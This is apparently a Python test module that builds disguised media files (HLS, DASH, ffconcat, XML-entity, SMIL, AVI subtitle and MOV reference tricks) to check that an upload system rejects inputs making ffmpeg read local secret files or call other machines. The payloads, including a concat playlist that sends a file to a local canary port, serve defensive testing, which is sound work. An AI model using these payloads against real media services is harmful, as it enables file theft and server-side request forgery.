"""Texts that make an unguarded ffmpeg open other files or call other machines, named like films and sounds."""

import io
import struct
import zipfile
from collections.abc import Iterator

from tests.corpus.bytework import box, chunk, with_body
from tests.corpus.canaries import port_of
from tests.corpus.case import Case, rejects, renders
from tests.corpus.kit import QUICK, Kit

PICTURES = [
    "mp4",
    "m4v",
    "mov",
    "mkv",
    "webm",
    "avi",
    "mpg",
    "mpeg",
    "ts",
    "mts",
    "m2ts",
    "wmv",
    "flv",
    "ogv",
    "3gp",
    "mxf",
    "jpg",
    "jpeg",
    "png",
    "webp",
]
SOUNDS = ["wav", "mp3", "m4a", "aac", "flac", "ogg", "oga", "opus", "aif", "aiff", "aifc", "wma", "caf", "amr"]
EVERYWHERE = ("hls", "dash", "ffconcat", "sdp")
"""With every suffix that the inbox knows; the others with one of each kind."""
OFTEN = frozenset({"mp4", "jpg", "wav", "mts", "mp3", "mxf"})
GROUP = "playlists in disguise"


def cases(kit: Kit) -> Iterator[Case]:
    """Every text with its suffixes, and playlists inside of containers."""
    for kind, (text, story) in texts(kit).items():
        pictures, sounds = (PICTURES, SOUNDS) if kind in EVERYWHERE else (("mp4",), ("wav",))
        for suffix in pictures:
            name, is_slow = f"{kind}-as-{suffix}", suffix not in OFTEN
            yield kit.picture(name, story, rejects("E101"), suffix, text.encode, group=GROUP, is_slow=is_slow)
        for suffix in sounds:
            name, is_slow = f"{kind}-as-{suffix}-sound", suffix not in OFTEN
            yield kit.sound(name, story, rejects("E101"), suffix, text.encode, group=GROUP, is_slow=is_slow)
    yield from _inside(kit)


def texts(kit: Kit) -> dict[str, tuple[str, str]]:
    """Name → text and what it is; each names a secret file or a port of this machine."""
    at, call = kit.secrets, f"http://127.0.0.1:{port_of(kit.secrets)}"
    hls = f"#EXTM3U\n#EXT-X-TARGETDURATION:1\n#EXTINF:1,\n{at}/secret.ts\n#EXT-X-ENDLIST\n"
    mpd = (
        '<MPD xmlns="urn:mpeg:dash:schema:mpd:2011" type="static" '
        'profiles="urn:mpeg:dash:profile:isoff-on-demand:2011" mediaPresentationDuration="PT1S"><Period>'
        '<AdaptationSet mimeType="video/mp4"><Representation id="1" bandwidth="1" width="64" height="64">'
        f"<BaseURL>file://{at}/secret.mp4</BaseURL></Representation></AdaptationSet></Period></MPD>\n"
    )
    sdp = "v=0\no=- 0 0 IN IP4 127.0.0.1\ns=x\nc=IN IP4 127.0.0.1\nt=0 0\n"
    sdp += "m=video 5004 RTP/AVP 96\na=rtpmap:96 H264/90000\n"
    return {
        "hls": (hls, "an HLS playlist of a file outside the inbox"),
        "hls-bom": ("\ufeff" + hls, "an HLS playlist behind a byte order mark"),
        "hls-call": (hls.replace(f"{at}/secret.ts", f"{call}/x.ts"), "an HLS playlist that calls a machine"),
        "hls-key": (
            hls.replace("#EXTINF", f'#EXT-X-KEY:METHOD=AES-128,URI="{at}/secret.txt"\n#EXTINF', 1),
            "an HLS playlist whose key is a file outside the inbox",
        ),
        "hls-map": (
            hls.replace("#EXTINF", f'#EXT-X-MAP:URI="{at}/secret.mp4"\n#EXTINF', 1),
            "an HLS playlist whose beginning is a file outside the inbox",
        ),
        "hls-master": (
            f'#EXTM3U\n#EXT-X-MEDIA:TYPE=AUDIO,GROUP-ID="a",NAME="a",URI="{at}/secret.wav"\n'
            f'#EXT-X-STREAM-INF:BANDWIDTH=1,AUDIO="a"\n{at}/secret.ts\n',
            "an HLS master playlist",
        ),
        "hls-concat": (
            hls.replace(f"{at}/secret.ts", f"concat:{call}/leak?|{at}/secret.txt"),
            "an HLS playlist that sends a file to a machine",
        ),
        "hls-itself": ("#EXTM3U\n#EXT-X-TARGETDURATION:1\n#EXTINF:1,\ntake.mp4\n", "a live playlist that names itself"),
        "hls-live": ("#EXTM3U\n#EXT-X-TARGETDURATION:9999\n", "an HLS playlist that never ends: it hangs"),
        "dash": (mpd, "a DASH manifest of a file outside the inbox"),
        "dash-xml": ('<?xml version="1.0"?>\n' + mpd, "a DASH manifest with an XML declaration"),
        "xml-entity": (
            f'<?xml version="1.0"?>\n<!DOCTYPE x [<!ENTITY s SYSTEM "file://{at}/secret.txt">]>\n<MPD>&s;</MPD>\n',
            "an XML entity that is a file",
        ),
        "ffconcat": (f"ffconcat version 1.0\nfile '{at}/secret.mp4'\n", "an ffconcat list of a file outside the inbox"),
        "ffconcat-neighbour": (
            "ffconcat version 1.0\nfile '../hls-as-mp4/take.wav'\n",
            "an ffconcat list of a neighbour",
        ),
        "ffconcat-options": (
            f"ffconcat version 1.0\nfile 'subfile,,start,0,end,9,,:{at}/secret.mp4'\noption safe 0\n",
            "an ffconcat list with protocols in it",
        ),
        "sdp": (sdp, "an SDP text: it opens ports and hangs"),
        "smil": (f'<smil><body><video src="{at}/secret.mp4"/></body></smil>', "a SMIL text"),
        "asx": (f'<asx version="3.0"><entry><ref href="{call}/x"/></entry></asx>', "an ASX playlist"),
        "pls": (f"[playlist]\nFile1={call}/x\nNumberOfEntries=1\n", "a PLS playlist"),
        "m3u": (f"{at}/secret.mp4\n", "a plain list of files"),
        "cue": (f'FILE "{at}/secret.wav" WAVE\n  TRACK 01 AUDIO\n    INDEX 01 00:00:00\n', "a cue sheet"),
        "avisynth": (f'DirectShowSource("{at}/secret.mp4")\n', "an AviSynth script"),
        "svg": (
            f'<svg xmlns="http://www.w3.org/2000/svg"><image href="file://{at}/secret.png"/></svg>',
            "an SVG drawing with a picture of another file",
        ),
        "web-page": (f'<!DOCTYPE html><video src="{call}/x"></video>', "a web page, saved in place of a download"),
        "rtsp": (f"rtsptext\nrtsp://127.0.0.1:{port_of(at)}/x\n", "a QuickTime stream link"),
        "ffmetadata": (";FFMETADATA1\ntitle=x\n", "a text of ffmpeg's own"),
        "vobsub": (
            f"# VobSub index file, v7\nid: en\n# {at}/secret.sub\ntimestamp: 00:00:00:000, filepos: 0\n",
            "VobSub",
        ),
        "webvtt": ("WEBVTT\n\n00:00.000 --> 00:01.000\nx\n", "subtitles"),
        "imf": (
            '<?xml version="1.0"?><CompositionPlaylist xmlns="http://www.smpte-ra.org/schemas/2067-3/2016">'
            f"<Id>urn:uuid:0</Id><ContentTitle>{at}/secret.mp4</ContentTitle></CompositionPlaylist>",
            "an IMF composition",
        ),
        "pattern": (f"{at}/secret.%03d.png\n", "a pattern of picture files"),
        "lavfi": (f"movie={at}/secret.mp4\n", "a filter graph that opens a file"),
    }


def _inside(kit: Kit) -> Iterator[Case]:
    hls = texts(kit)["hls"][0].encode()
    story = "an AVI whose subtitles are an HLS playlist (CVE-2017-9993): the film is good, the playlist is not opened"
    yield kit.picture("gab2-hls", story, renders("take.mp4"), "avi", lambda: with_gab2(_avi(kit), hls), group=GROUP)
    concat = texts(kit)["ffconcat"][0].encode()
    story = "an AVI whose subtitles are an ffconcat list"
    yield kit.picture(
        "gab2-ffconcat", story, renders("take.mp4"), "mp4", lambda: with_gab2(_avi(kit), concat), group=GROUP
    )
    story = "a MOV that says its samples lie in another file (dref): its own are taken"
    yield kit.picture("mov-dref", story, renders("take.mp4"), "mov", lambda: with_reference(kit), group=GROUP)
    story = "an HLS playlist behind the boxes of an MP4 without a film"
    body = struct.pack(">I4s4sI", 16, b"ftyp", b"isom", 512) + hls
    yield kit.picture("hls-behind-ftyp", story, rejects("E110"), "mp4", lambda: body, group=GROUP)
    story = "an HLS playlist behind an ID3 tag, as in packed audio"
    tag = b"ID3\4\0\0\0\0\0\x0a" + bytes(10)
    yield kit.sound("hls-behind-id3", story, rejects("E101", "E110"), "mp3", lambda: tag + hls, group=GROUP)
    story = "a ZIP archive with a playlist in it"
    yield kit.picture("zip-as-mp4", story, rejects("E101"), "mp4", lambda: _zipped(hls), group=GROUP)


def _avi(kit: Kit) -> bytes:
    return kit.film("mjpeg.avi", "-c:v", "mjpeg").read_bytes()


def _zipped(content: bytes) -> bytes:
    file = io.BytesIO()
    with zipfile.ZipFile(file, "w") as archive:
        archive.writestr("take.m3u8", content)
    return file.getvalue()


def with_gab2(avi: bytes, text: bytes) -> bytes:
    """Add a stream of subtitles (`txts`) to an AVI, whose one packet is a GAB2 chunk that holds the text."""
    strh = b"txts" + bytes(16) + struct.pack("<IIIIIII", 1, 1, 0, 1, 0, 0xFFFFFFFF, 0) + bytes(8)
    stream = chunk(b"LIST", b"strl" + chunk(b"strh", strh) + chunk(b"strf", b""))
    gab2 = b"GAB2\0" + struct.pack("<HI", 2, 2) + b"x\0" + struct.pack("<HI", 4, len(text)) + text
    header_at = avi.index(b"LIST")
    header_bytes = struct.unpack_from("<I", avi, header_at + 4)[0]
    header_end = header_at + 8 + header_bytes
    movi_at = avi.index(b"movi", header_end)
    packet = chunk(b"01tx", gab2)
    movi_bytes = struct.unpack_from("<I", avi, movi_at - 4)[0]
    index_at = movi_at - 8 + 8 + movi_bytes  # what follows is the index of offsets that no longer hold
    made = bytearray(avi[:header_end] + stream + avi[header_end : movi_at + 4] + packet + avi[movi_at + 4 : index_at])
    struct.pack_into("<I", made, header_at + 4, header_bytes + len(stream))
    struct.pack_into("<I", made, movi_at - 4 + len(stream), movi_bytes + len(packet))
    streams_at = made.index(b"avih") + 8 + 24
    struct.pack_into("<I", made, streams_at, 2)
    struct.pack_into("<I", made, 4, len(made) - 8)
    return bytes(made)


def with_reference(kit: Kit) -> bytes:
    """Let the data reference of a MOV name another file."""
    whole = kit.film("h264.mov", "-c:v", "libx264", *QUICK).read_bytes()
    path = b"file://" + str(kit.secrets / "secret.mp4").encode() + b"\0"
    url = box(b"url ", bytes(4), path)
    return with_body(whole, (b"moov", b"trak", b"mdia", b"minf", b"dinf", b"dref"), struct.pack(">II", 0, 1) + url)
